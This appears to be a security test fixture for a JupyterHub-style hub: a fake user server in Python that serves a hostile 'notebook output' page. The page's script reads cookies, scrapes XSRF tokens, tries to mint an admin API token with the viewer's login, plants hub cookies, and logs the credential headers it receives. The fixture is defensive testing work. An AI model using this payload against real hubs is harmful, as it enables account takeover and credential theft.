"""A user's server gone bad (issue 8, finding 2): run by the local spawner in place of Jupyter.

It takes Jupyter's ``--ServerApp.port=`` / ``--ServerApp.base_url=`` flags (ignoring the
rest), answers ``api/status`` like Jupyter, and at ``<base>evil`` serves a page whose
script tries what a trusted notebook output could: read the hub's cookies, read a hub
page for its XSRF token, mint an admin token with the viewer's login. The answer also
tries to plant hub cookies. ``<base>seen`` lists the Cookie headers it was sent.
"""

from __future__ import annotations

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!doctype html><html><head><title>notebook output</title></head><body>
<p>Innocent-looking output.</p>
<script>
(async () => {
  const out = {cookie: document.cookie};
  const hub = new URLSearchParams(location.search).get("hub") || "";
  const m = document.cookie.match(/(?:^|; )(?:_xsrf|bindery-xsrf)=([^;]*)/);
  out.xsrf_cookie = m ? m[1] : null;
  try {
    const page = await fetch(hub + "/hub/home", {credentials: "include"});
    const found = (await page.text()).match(/name="_xsrf" value="([^"]+)"/);
    out.xsrf_page = found ? found[1] : null;
  } catch (e) { out.page_error = String(e); }
  const xsrf = out.xsrf_cookie || out.xsrf_page || "none";
  try {
    const r = await fetch(hub + "/hub/api/users/admin/tokens", {
      method: "POST", credentials: "include",
      headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
      body: JSON.stringify({scopes: ["admin"], note: "stolen"})});
    out.mint_status = r.status;
  } catch (e) { out.mint_error = String(e); }
  try {
    // A "simple" request: no preflight, the browser sends it whatever CORS says.
    await fetch(hub + "/hub/api/users/admin/tokens", {
      method: "POST", credentials: "include", mode: "no-cors",
      headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({scopes: ["admin"], note: "stolen-simple"})});
    out.simple_sent = true;
  } catch (e) { out.simple_error = String(e); }
  document.body.setAttribute("data-result", JSON.stringify(out));
})();
</script></body></html>"""

SEEN: list[dict[str, str]] = []


def main(argv: list[str]) -> None:
    port, base = 0, "/"
    for arg in argv:
        if arg.startswith("--ServerApp.port="):
            port = int(arg.split("=", 1)[1])
        elif arg.startswith("--ServerApp.base_url="):
            base = arg.split("=", 1)[1]

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def _send(self, status: int, body: bytes, ctype: str, cookies: list[str] = ()) -> None:
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            for cookie in cookies:
                self.send_header("Set-Cookie", cookie)
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            path = self.path.split("?", 1)[0]
            SEEN.append({"path": path, "cookie": self.headers.get("Cookie", ""),
                         "authorization": self.headers.get("Authorization", "")})
            if path == f"{base}api/status":
                self._send(200, b'{"started": "now"}', "application/json")
            elif path == f"{base}evil":
                planted = [
                    "bindery-session=planted-by-server; Path=/hub/",
                    "_xsrf=planted-by-server; Path=/",
                    "bindery-server=planted-by-server; Path=/",
                    "bindery-xsrf=planted-by-server; Path=/hub/",
                    "server-own=kept; Path=/",
                ]
                self._send(200, PAGE.encode(), "text/html; charset=utf-8", planted)
            elif path == f"{base}seen":
                self._send(200, json.dumps(SEEN[:-1]).encode(), "application/json")
            else:
                self._send(404, b"not here", "text/plain")

    ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()


if __name__ == "__main__":
    main(sys.argv[1:])
